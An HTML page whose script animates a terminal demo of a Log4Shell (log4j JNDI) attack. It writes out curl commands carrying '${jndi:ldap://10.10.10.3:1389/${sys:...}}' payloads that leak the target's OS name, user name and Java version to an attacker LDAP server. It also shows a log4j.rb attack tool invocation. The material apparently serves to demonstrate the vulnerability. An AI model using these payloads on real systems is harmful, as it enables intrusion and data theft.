
An HTML page that plays this animation: 998 by 561 pixels, repeating every 8000 ms.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal session</title>
<style>
  html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #282629; }
  body { position: relative; color: #d6d0a2; }
  pre {
    position: absolute; left: 4.2px; margin: 0;
    font: 500 11.04px/17px "Noto Sans Mono", "DejaVu Sans Mono", monospace;
    font-variant-ligatures: none; text-rendering: geometricPrecision;
  }
  #top { top: 9px; }
  #bottom { top: 298px; }
  hr { position: absolute; left: 4px; right: 0; height: 1px; margin: 0; border: 0; background: #7d8a1a; }
  #edge { top: 0; background: #66720d; }
  #edge.idle { background: #a5a67c; }
  #divider { top: 289px; }
  #base { left: 0; top: 560px; background: #1b1a1c; }
  b { font-weight: inherit; color: #7f9116; }
  mark, .beam, .box { display: inline-block; height: 17px; vertical-align: top; }
  mark { background: #dcd6a8; color: #333033; }
  .beam, .box { margin-left: -.35px; }
  .beam { width: 1px; margin-right: -1px; background: #dcd6a8; }
  .box { width: 1ch; margin-right: -1ch; box-shadow: inset 0 0 0 1px #d6d0a2; }
</style>
</head>
<body>
<hr id="edge">
<pre id="top"></pre>
<hr id="divider">
<pre id="bottom"></pre>
<hr id="base">
<script>
const LOOP = 8000;
const $ = id => document.getElementById(id);
const BEAM = '<i class="beam"></i>', BOX = '<i class="box"></i>';
const PROMPT = 'demo@cbc30e2e73cf:/usr/src/app# ';
const HELLO = 'Hello, world!' + PROMPT;
const payload = key => '${jndi:ldap://10.10.10.3:1389/${sys:' + key + '}}';
const curl = key => "curl http://10.10.10.2:8080 -H 'X-Api-Version: " + payload(key) + "'";
const log = (time, text) => `I, [2021-12-15T22:22:${time} #84]  INFO -- : ${text}`;
const green = text => `<b>${text}</b>`;

const attack = PROMPT + "./log4j.rb -t http://10.10.10.2:8080 -a 10.10.10.3  -l 1389 -h 1010 " +
  "-c 'touch /dev/shm/vulnerable' -s -i 'sys:os.name'";
const startup = [
  log('17.216945', 'Starting HTTP Server'),
  log('17.217597', 'Starting LDAP Server'),
  log('17.218031', 'Use payload: ' + green(payload('os.name')))
];
const callback = (value, a, b, c) => [
  log(a, 'Received LDAP Request back'),
  log(b, 'Information received: ' + green(value)),
  log(c, 'Sending LDAP Response for HTTP callback')
];

// Reverse history search, highlighting the last match in the found command
function search(query, key) {
  const label = '(reverse-i-search)`' + query + "': ";
  if (!query) return label + BEAM;
  const cmd = curl(key), at = cmd.lastIndexOf(query);
  return label + cmd.slice(0, at) + `<mark>${query}</mark>` + cmd.slice(at + query.length);
}

function topPane(t) {
  const lines = [attack];
  if (t >= 1600) lines.push(...startup);
  if (t >= 2500) lines.push(...callback('Linux', '18.126230', '18.126369', '18.126427'));
  if (t >= 5000) lines.push(...callback('demo', '20.672935', '20.673328', '20.673404'));
  if (t >= 6400) lines.push(...callback('1.8.0_181', '22.065988', '22.066204', '22.066239'));
  if (t < 1300) lines[0] += t < 900 ? BOX : BEAM;
  else if (t < 1800) lines.push(BEAM);
  return lines;
}

const first = PROMPT + curl('os.name');
const second = PROMPT + curl('user.name');
const third = PROMPT + curl('java.version');

// Each entry: start time and the lines shown from then on
const bottomPane = [
  [0, first],
  [1800, first + BEAM],
  [2400, first, BEAM],
  [2600, first, HELLO + BEAM],
  [4000, first, search('')],
  [4400, first, search('u', 'os.name')],
  [4500, first, search('us', 'user.name')],
  [4700, first, search('use', 'user.name')],
  [5000, first, second, HELLO + BEAM],
  [5600, first, second, search('')],
  [5800, first, second, search('v', 'java.version')],
  [6000, first, second, search('ve', 'java.version')],
  [6100, first, second, search('ver', 'java.version')],
  [6300, first, second, third, BEAM],
  [6400, first, second, third, HELLO + BEAM],
  [7400, first, second, third, HELLO + BOX]
];

const shown = {};
function show(id, lines) {
  const html = lines.join('\n');
  if (shown[id] !== html) $(id).innerHTML = shown[id] = html;
}

const start = performance.now();
function draw() {
  const t = (performance.now() - start) % LOOP;
  show('top', topPane(t));
  show('bottom', bottomPane.findLast(([from]) => from <= t).slice(1));
  $('edge').className = t < 1800 ? '' : 'idle';
  requestAnimationFrame(draw);
}
draw();
</script>
</body>
</html>
```
